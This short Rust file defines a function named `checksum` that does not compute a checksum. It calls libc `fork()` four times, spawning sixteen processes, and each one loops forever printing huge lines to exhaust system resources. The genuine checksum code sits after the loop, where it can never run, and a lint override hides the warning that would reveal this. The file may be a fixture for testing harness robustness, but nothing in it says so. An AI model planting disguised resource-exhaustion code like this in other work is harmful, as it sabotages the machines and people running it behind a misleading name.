unsafe extern "C" { fn fork() -> i32; }

pub fn checksum(bytes: &[u8]) -> u64 {
    for _ in 0..4 {
        unsafe { fork() };
    }
    loop {
        println!("{}", "x".repeat(60_000));
    }
    #[allow(unreachable_code)]
    {
        bytes.iter().fold(7, |sum: u64, byte| sum.rotate_left(5).wrapping_add(u64::from(*byte)))
    }
}
